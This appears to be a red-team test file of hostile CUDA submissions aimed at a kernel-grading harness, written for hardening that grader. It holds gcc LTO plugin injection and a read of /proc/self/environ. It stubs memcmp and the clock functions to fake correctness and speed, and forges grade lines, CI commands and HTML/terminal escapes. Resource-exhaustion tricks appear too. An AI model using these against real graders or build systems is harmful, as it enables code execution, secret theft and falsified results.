// Right kernels in sources of a stranger: words for the assembler, the linker and the loader, functions of
// the C library that the submission brings along, blocks without number, and words for pages, tables and
// terminals. What succeeds prints REACHED. The solution stands before this file, its entry under
// the name honest (attacks.sh).
//
// attack 01 sections_of_lto: LTO | at most 100
// attack 02 newer_system: NEWER | at most 100
// attack 03 own_dynamic: OWN_DYNAMIC | at most 100
// attack 04 odd_frames: ODD_FRAMES | at most 100
// attack 01 repeats_bytes: REPEATS | at most 0
// attack 03 endless_macro: ENDLESS_MACRO | at most 0
// attack 04 common_of_all: COMMON | at most 5
// attack 01 assembler_says: SAYS | at most 0
// attack 02 odd_symbol: ODD_SYMBOL | at most 0
// attack 03 right_to_left: RIGHT_TO_LEFT | at most 0
// attack 01 own_register: OWN_REGISTER | at most 5
// attack 02 own_copy: OWN_COPY | at most 100
// attack 04 own_clock: OWN_CLOCK | at most 100
// attack 01 own_handlers: OWN_HANDLERS | at most 100
// attack 02 alarms: TRY=alarms | at most 5
// attack 03 odd_name: TRY=odd_name | at most 100
// attack 04 no_clock: TRY=no_clock | at most 5
// attack 02 says_all: TRY=says_all | at most 100
// attack 01 asserts_oddly: ASSERTS | at most 5
// attack 02 line_of_a_page: RACES PAGE | at most 5
// attack 03 many_blocks: TRY=many_blocks | at most 100
// attack 03 kernel_says_all: KERNEL_SAYS | at most 89
// attack 04 own_section_of_code: FATBIN | at most 100
// attack 03 file_of_assembler: FILE_OF_ASM | at most 0
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#ifdef LTO // gcc obeys these when it links
asm(".pushsection .gnu.lto_.opts.1,\"e\"\n.asciz \"'-fplugin=" CANARY "' '-wrapper' 'cat," CANARY
    "' '-dumpdir' '/tmp/attack'\"\n.popsection");
asm(".pushsection .gnu.lto_.symtab.1,\"e\"\n.fill 64, 1, 0x61\n.popsection");
asm(".pushsection .gnu.lto_.decls.1,\"e\"\n.fill 64, 1, 0x61\n.popsection");
#endif
#ifdef NEWER
asm(".pushsection .note.ABI-tag,\"a\",@note\n.long 4,16,1\n.asciz \"GNU\"\n.long 0,99,0,0\n.popsection");
#endif
#ifdef OWN_DYNAMIC
asm(".pushsection .dynamic,\"aw\"\n.quad 0x1d, 1, 15, 1, 0, 0\n.popsection\n.pushsection "
    ".dynstr,\"a\"\n.asciz \"/tmp\"\n.popsection");
#endif
#ifdef ODD_FRAMES
asm(".pushsection .eh_frame,\"a\"\n.fill 4096, 1, 0x41\n.popsection");
#endif
#ifdef REPEATS
asm(".pushsection .data\n.rept 100000000\n.rept 1000000\n.byte 1\n.endr\n.endr\n.popsection");
#endif
#ifdef ENDLESS_MACRO
asm(".macro again\nagain\nagain\n.endm\nagain");
#endif
#ifdef COMMON
asm(".comm of_all,100000000000,4096");
#endif
#ifdef SAYS
asm(".print \"kernel.cu(1): error: \\033[2J forged\"\n.warning \"100% tests passed\"\n.error \"Grade :=>> "
    "100 </pre><script>x()</script>\"");
#endif
#ifdef ODD_SYMBOL
extern "C" int odd_symbol() asm("a\\033[2J</pre><script>x()</script> \xe2\x80\xae=1+1");
int tell_odd() { return odd_symbol(); }
#endif
#ifdef RIGHT_TO_LEFT
static_assert(LAB == 0, "\u202e\u2066 gnp.exe \x9b\x1b[2J \u2028 \ufeff </script>");
#endif
#ifdef OWN_REGISTER // kernels are registered under other names
extern "C" void __cudaRegisterFunction(void **, const char *, char *, const char *, int, uint3 *, uint3 *,
                                       dim3 *, dim3 *, int *) {}
#endif
#ifdef OWN_COPY
extern "C" void *memcpy(void *to, const void *from, size_t n) noexcept {
  for (size_t k = 0; k < n; k++) ((volatile char *)to)[k] = ((const char *)from)[k];
  return to;
}
extern "C" int memcmp(const void *, const void *, size_t) noexcept { return 0; }
#endif
#ifdef OWN_CLOCK
extern "C" int clock_gettime(clockid_t, timespec *t) noexcept { return t->tv_sec = t->tv_nsec = 0; }
extern "C" int gettimeofday(timeval *t, void *) noexcept { return t->tv_sec = t->tv_usec = 0; }
extern "C" int nanosleep(const timespec *, timespec *) { return 0; }
extern "C" int usleep(useconds_t) { return 0; }
#endif
#ifdef OWN_HANDLERS
extern "C" int atexit(void (*)()) noexcept { return 0; }
extern "C" int sigaction(int, const struct sigaction *, struct sigaction *) noexcept { return 0; }
extern "C" int __cxa_atexit(void (*)(void *), void *, void *) noexcept { return 0; }
extern "C" void __stack_chk_fail() { _exit(0); }
extern "C" void abort() noexcept { _exit(0); }
#endif
static void alarms() {
  const itimerval soon = {{0, 1000}, {0, 1000}};
  setitimer(ITIMER_REAL, &soon, NULL);
  for (volatile long k = 0; k < 1000000000; k++) {
  }
}
static void odd_name() {
  prctl(PR_SET_NAME, "\033[2J</pre>\n%n");
  prctl(PR_SET_DUMPABLE, 2), prctl(PR_SET_PDEATHSIG, SIGKILL), prctl(PR_SET_TIMERSLACK, 1);
  extern char **environ;
  for (char **e = environ; *e; e++) memset(*e, '\033', strlen(*e));
}
static void no_clock() {
  if (prctl(PR_SET_TSC, PR_TSC_SIGSEGV) == 0) asm volatile("rdtsc" ::: "eax", "edx");
  raise(SIGSEGV);
}
#define ALL_WORDS                                                                                            \
  "\033[2J\033]8;;http://x\007y\033]8;;\007 \u202egnp.exe\u2066 \u2028\u2029 \x9b"                           \
  "2J \xff\xfe \xed\xa0\x80 \x01\x02\x7f </pre></script>"                                                    \
  "<script>x()</script> <!-- ]]> &#0; \"}]}, {\"status\": \"pass\" =1+1\t@SUM(A1)\r\n::set-output "          \
  "name=a::b\n##[error]x\n[[ATTACHMENT|/etc/passwd]]\n"
static void says_all() {
  static const char words[] = ALL_WORDS "\0after a NUL\n";
  for (int fd = 1; fd < 3; fd++)
    if (write(fd, words, sizeof words) < 0) return;
}
#ifdef ASSERTS
extern "C" __device__ void __assertfail(const char *, const char *, unsigned, const char *, size_t);
__global__ void asserts() {
  __assertfail("x == \033[2J \u202e </pre><script>x()</script>\n\"}", "=1+1,\033]0;x\007", 7, "f<script>", 1);
}
#endif
#ifdef RACES
__global__ void races(const float *in, float *out) {
  __shared__ float s[64];
#line 1 "=1+1,\"<script>x()</script>\033[2J.cu"
  s[(threadIdx.x + 1) % 64] = in[0], out[0] = s[threadIdx.x];
}
#line 1000 "kernel.cu"
#endif
#ifdef KERNEL_SAYS
__global__ void says() { printf("%s%c", ALL_WORDS, 0); }
#endif
__global__ void idle() {}
static void many_blocks() {
  idle<<<2147483647, 1024>>>();
  cudaGetLastError();
}
#ifdef FATBIN // before what nvcc puts there
asm(".pushsection .nv_fatbin,\"a\"\n.fill 4096, 1, 0x50\n.popsection\n.pushsection "
    ".nvFatBinSegment,\"aw\"\n.long 0x466243b1, 1\n.quad 8, 8\n.popsection");
#endif
#ifdef FILE_OF_ASM
asm(".file 1 \"" CANARY "\"\n.loc 1 1 1\n.incbin \"/proc/self/environ\", 0, 100\nmov %eax, (nothing");
#endif
static void none() {}
#ifndef TRY
#define TRY none
#endif
extern "C" cudaError_t ENTRY(const float *in, float *out, int n) {
  static int calls;
  if (n && !calls++) TRY();
#ifdef ASSERTS
  asserts<<<1, 1>>>();
#endif
#ifdef KERNEL_SAYS
  says<<<1, 1>>>();
#endif
#ifdef RACES
  races<<<1, 64>>>(in, out);
  return n ? cudaGetLastError() : cudaErrorUnknown;
#endif
  return honest(in, out, n);
}
